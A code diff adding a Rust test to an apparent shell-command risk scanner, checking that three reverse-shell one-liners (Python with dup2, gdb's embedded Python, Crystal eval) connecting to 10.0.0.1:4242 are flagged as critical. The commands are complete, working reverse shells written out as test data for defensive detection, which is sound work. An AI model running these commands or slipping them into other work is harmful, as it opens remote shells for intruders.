@@ -560,3 +560,23 @@ fn login_items_messages_and_home_bin() {
     );
     clean("ls ~/bin");
 }
+
+/// More own reverse shells: imports by string with dup2, gdb's embedded
+/// Python (was re-read as shell and failed to parse), Crystal's eval, a
+/// `<<` inside single quotes (was refused as an odd here-document).
+#[test]
+fn reverse_shells_in_embedded_languages() {
+    for cmd in [
+        "python -c 'a=__import__;s=a(\"socket\").socket;o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s();c.connect((\"10.0.0.1\",4242));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p(\"/bin/sh\")'",
+        "gdb -nx -ex 'python import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' -ex quit",
+        "crystal eval 'require \"socket\";c=Socket.tcp(Socket::Family::INET);c.connect(\"10.0.0.1\",4242);loop{m,l=c.receive;p=Process.new(m,output:Process::Redirect::Pipe,shell:true);c<<p.output.gets_to_end}'",
+    ] {
+        let a = assess_bash(cmd, &ctx());
+        assert!(
+            a.findings.iter().any(|f| f.severity == Critical),
+            "{cmd:?}: expected a critical finding, got {:#?}",
+            a.findings
+        );
+    }
+    clean("python3 -c 'print(1<<3)'");
+}
